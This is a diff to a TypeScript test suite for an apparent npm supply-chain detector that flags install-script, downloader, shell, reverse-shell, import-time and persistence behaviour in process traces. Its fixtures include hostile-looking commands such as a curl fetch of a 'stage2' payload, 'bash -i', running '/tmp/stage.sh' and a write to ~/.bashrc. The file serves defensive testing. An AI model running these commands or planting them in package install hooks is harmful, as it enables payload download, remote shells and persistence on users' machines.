@@ -15,6 +15,11 @@ function rules(events: readonly TraceEvent[]): string[] {
   return evaluate(events).map((finding) => finding.rule);
 }
 
+/** Findings other than the install-script one every npm-run script gives. */
+function beyondScriptRun(events: readonly TraceEvent[]) {
+  return evaluate(events).filter((finding) => finding.rule !== 'install-script');
+}
+
 /** npm (pid 100) running evil's postinstall: `sh -c "node install.js"` (200) -> node install.js (201). */
 const npmRunsScript: TraceEvent[] = [
   exec(['node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'install'], { pid: 100, parentPid: null, attribution: NPM, executable: '/usr/bin/node' }),
@@ -26,7 +31,7 @@ test('npm own work never produces a finding', (t) => {
   const events = [
     file(`${HOME}/.npmrc`, 'read', { attribution: NPM }),
     connect('203.0.113.5', 443, { attribution: NPM }),
-    dns('registry.npmjs.org', { attribution: NPM }),
+    dns('registry.example', { attribution: NPM }),
     exec(['curl', 'https://example.com'], { attribution: NPM }),
     exec(['sh', '-c', 'true'], { attribution: NPM }),
     file('/tmp/npm-1234/x', 'write', { attribution: NPM }),
@@ -101,7 +106,7 @@ test('reading ordinary files is not a finding', (t) => {
 });
 
 test('running curl is a downloader-spawn finding', (t) => {
-  const [finding, ...rest] = evaluate([...npmRunsScript, exec(['curl', '-fsSL', 'https://x.example/stage2'], { pid: 202, parentPid: 201 })]);
+  const [finding, ...rest] = beyondScriptRun([...npmRunsScript, exec(['curl', '-fsSL', 'https://x.example/stage2'], { pid: 202, parentPid: 201 })]);
   t.deepEqual(rest, []);
   t.like(finding, { rule: 'downloader-spawn', category: 'download', severity: 'high', summary: 'runs the downloader curl' });
   t.deepEqual(finding?.evidence, ['pid 202 exec /usr/bin/curl: curl -fsSL https://x.example/stage2']);
@@ -115,23 +120,37 @@ test('a downloader is recognised by its argv[0] even when the executable file ha
   t.deepEqual(rules([exec(['curl', 'http://x.example/'], { executable: '/opt/tools/fetcher' })]), ['downloader-spawn']);
 });
 
-test('npm own sh -c wrapper of a lifecycle script is not a shell-spawn finding', (t) => {
-  t.deepEqual(rules(npmRunsScript), []);
+test('npm own sh -c wrapper of a lifecycle script is not a shell-spawn finding, only the low install-script one', (t) => {
+  t.deepEqual(rules(npmRunsScript), ['install-script']);
 });
 
-test('a shell started by a lifecycle script is a shell-spawn finding', (t) => {
-  const [finding, ...rest] = evaluate([...npmRunsScript, exec(['bash', '-i'], { pid: 202, parentPid: 201, executable: '/bin/bash' })]);
+test('a shell running a script file started by a lifecycle script is a shell-spawn finding', (t) => {
+  const [finding, ...rest] = beyondScriptRun([
+    ...npmRunsScript,
+    exec(['bash', '/tmp/stage.sh'], { pid: 202, parentPid: 201, executable: '/bin/bash' }),
+  ]);
   t.deepEqual(rest, []);
-  t.like(finding, { rule: 'shell-spawn', category: 'spawn', severity: 'high', summary: 'starts a shell (bash)' });
-  t.deepEqual(finding?.evidence, ['pid 202 exec /bin/bash: bash -i']);
+  t.like(finding, { rule: 'shell-spawn', category: 'spawn', severity: 'medium' });
+  t.deepEqual(finding?.evidence, ['pid 202 exec /bin/bash: bash /tmp/stage.sh']);
 });
 
-test('a shell started while importing the package is a shell-spawn finding', (t) => {
+test('an interactive shell started by a lifecycle script is a reverse-shell finding as well', (t) => {
+  const events = [...npmRunsScript, exec(['bash', '-i'], { pid: 202, parentPid: 201, executable: '/bin/bash' })];
+  t.deepEqual(
+    beyondScriptRun(events).map((finding) => [finding.rule, finding.severity]),
+    [
+      ['shell-spawn', 'medium'],
+      ['reverse-shell', 'critical'],
+    ],
+  );
+});
+
+test('a command run while importing the package is an import-spawn finding', (t) => {
   const events = [
     exec(['node', '-e', 'import("pkg")'], { pid: 10, parentPid: null, phase: 'import', attribution: imported('pkg'), executable: '/usr/bin/node' }),
     exec(['sh', '-c', 'id'], { pid: 11, parentPid: 10, phase: 'import', attribution: imported('pkg'), executable: '/bin/sh' }),
   ];
-  t.deepEqual(rules(events), ['shell-spawn']);
+  t.deepEqual(rules(events), ['import-spawn']);
 });
 
 test('shells under make or node-gyp are compiling, not findings', (t) => {
@@ -146,7 +165,7 @@ test('shells under make or node-gyp are compiling, not findings', (t) => {
     exec(['make', 'BUILDTYPE=Release'], { pid: 302, parentPid: 300 }),
     exec(['/bin/sh', '-c', 'g++ -o x.o x.cc'], { pid: 303, parentPid: 302, executable: '/bin/sh' }),
   ];
-  t.deepEqual(rules(events), []);
+  t.deepEqual(beyondScriptRun(events), []);
 });
 
 test('writes inside the package own folder and in npm cache are fine', (t) => {
@@ -161,10 +180,16 @@ test('writes inside the package own folder and in npm cache are fine', (t) => {
   t.deepEqual(rules(events), []);
 });
 
-test('a write to a shell rc file is write-outside-package', (t) => {
-  const [finding, ...rest] = evaluate([file(`${HOME}/.bashrc`, 'write')]);
-  t.deepEqual(rest, []);
-  t.like(finding, {
+test('a write to a shell rc file is write-outside-package and persistence-write', (t) => {
+  const findings = evaluate([file(`${HOME}/.bashrc`, 'write')]);
+  t.deepEqual(
+    findings.map((finding) => [finding.rule, finding.severity]),
+    [
+      ['write-outside-package', 'high'],
+      ['persistence-write', 'critical'],
+    ],
+  );
+  t.like(findings[0], {
     rule: 'write-outside-package',
     category: 'file-write',
     severity: 'high',
